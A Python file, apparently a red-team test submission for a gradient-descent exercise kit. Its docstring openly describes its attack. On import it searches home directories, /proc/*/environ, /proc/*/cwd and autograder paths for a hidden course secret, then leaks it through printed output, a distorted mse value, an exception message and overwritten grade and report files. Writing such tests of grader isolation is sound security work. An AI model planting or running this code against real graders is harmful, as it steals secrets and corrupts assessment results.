"""Tries to read the course secret (the key of every hidden input) and to get it out.

Where it looks: ~/.config/gd-exercise-kit/course-secret under $HOME, the user's home in
/etc/passwd, /root and every /home/*; the file $GD_KIT_SECRET_FILE names, in its own
environment and in every /proc/*/environ; the kit's tests/course-secret.test and a
Gradescope bundle's course-secret (/autograder/source/, /autograder/) by absolute path, by
walking up from the working folder, from this file and from sys.path, through every
/proc/*/cwd and /proc/*/root, and three folders deep under /tmp, /work and others; and KNOWN below, the exact paths the red-team test keeps the
secret at (it writes them into its copy of this file: the worst case, an attacker who
knows them).
How it would get it out: printed at import and in mse, in mse's answer (+1000), raised in
partial_w0's exception, and written into the working folder as fake reports.
Every function is honest when nothing was read, so every function scores full marks only
if no attempt found the secret; no output of the run may hold its bytes."""
# redteam-zero: none
import glob
import os
import sys

import numpy as np

KNOWN = []  # the red-team test writes the secret's real paths here
NAMES = ("course-secret", "course-secret.test")
BELOW = (
    ".config/gd-exercise-kit/course-secret",
    "tests/course-secret.test",
    "course-secret",
    "source/course-secret",
    "autograder/source/course-secret",
)


def _ancestors(start):
    path = os.path.abspath(start)
    while True:
        yield path
        parent = os.path.dirname(path)
        if parent == path:
            return
        path = parent


def _candidates():
    found = list(KNOWN)
    homes = {os.environ.get("HOME", ""), "/root", *glob.glob("/home/*")}
    try:
        import pwd

        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
        homes.update(entry.pw_dir for entry in pwd.getpwall())
    except Exception:
        pass
    found += [os.path.join(h, ".config/gd-exercise-kit/course-secret") for h in homes if h]
    found += ["/autograder/source/course-secret", "/autograder/course-secret"]
    named = [os.environ.get("GD_KIT_SECRET_FILE", "")]
    for environ in glob.glob("/proc/*/environ"):
        try:
            with open(environ, "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if item.startswith(b"GD_KIT_SECRET_FILE="):
                        named.append(item.split(b"=", 1)[1].decode("utf-8", "replace"))
        except OSError:
            pass
    found += [n for n in named if n]
    starts = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)), *sys.path]
    starts += glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root")
    for start in starts:
        for folder in _ancestors(start or "."):
            found += [os.path.join(folder, below) for below in BELOW]
    for root in ("/tmp", "/autograder", "/srv", "/opt", "/work"):
        for depth in ("*", "*/*", "*/*/*"):
            for name in NAMES:
                found += glob.glob(os.path.join(root, depth, name))
    return found


def _steal():
    stolen = []
    for path in dict.fromkeys(_candidates()):
        try:
            with open(path, encoding="latin-1") as fh:
                text = fh.read(200).strip()
        except (OSError, ValueError):
            continue
        if text:
            stolen.append(f"{path}: {text}")
    return stolen


STOLEN = _steal()
if STOLEN:
    print("COURSE SECRET", STOLEN)
    for name in ("feedback.md", "results.json", "detail.json", "grades.csv"):
        try:
            with open(name, "w", encoding="utf-8") as fh:
                fh.write(" ".join(STOLEN))
        except OSError:
            pass


def mse(y, y_pred):
    if STOLEN:
        print("COURSE SECRET", STOLEN)
    return float(np.mean((np.asarray(y) - np.asarray(y_pred)) ** 2)) + (1000.0 if STOLEN else 0.0)


def partial_w0(w0, w1, x, y):
    if STOLEN:
        raise ValueError(" ".join(STOLEN))
    return float(-2 * np.mean(y - (w0 + w1 * x)))


def partial_w1(w0, w1, x, y):
    return float(-2 * np.mean((y - (w0 + w1 * x)) * x))


def gradient_descent(x, y, alpha=0.01, n_iters=1000, w0=0.0, w1=0.0):
    for _ in range(n_iters):
        g0, g1 = partial_w0(w0, w1, x, y), partial_w1(w0, w1, x, y)
        w0, w1 = w0 - alpha * g0, w1 - alpha * g1
    return w0, w1
